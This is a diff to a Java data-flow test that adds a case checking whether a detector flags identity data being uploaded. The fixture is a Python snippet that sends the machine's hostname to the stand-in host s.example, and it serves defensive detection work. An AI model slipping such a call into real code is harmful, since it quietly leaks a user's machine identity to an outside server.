@@ -537,6 +537,13 @@ class DataFlowTest {
               reached(
                   "identity-uploaded",
                   lines(
+                      "import platform, requests",
+                      "requests.Session().get('https://s.example/p', params={'h': platform.node()})")))
+          .contains(2);
+      assertThat(
+              reached(
+                  "identity-uploaded",
+                  lines(
                       "import socket, requests",
                       "local_ip = socket.gethostbyname(socket.gethostname())",
                       "print(local_ip)",
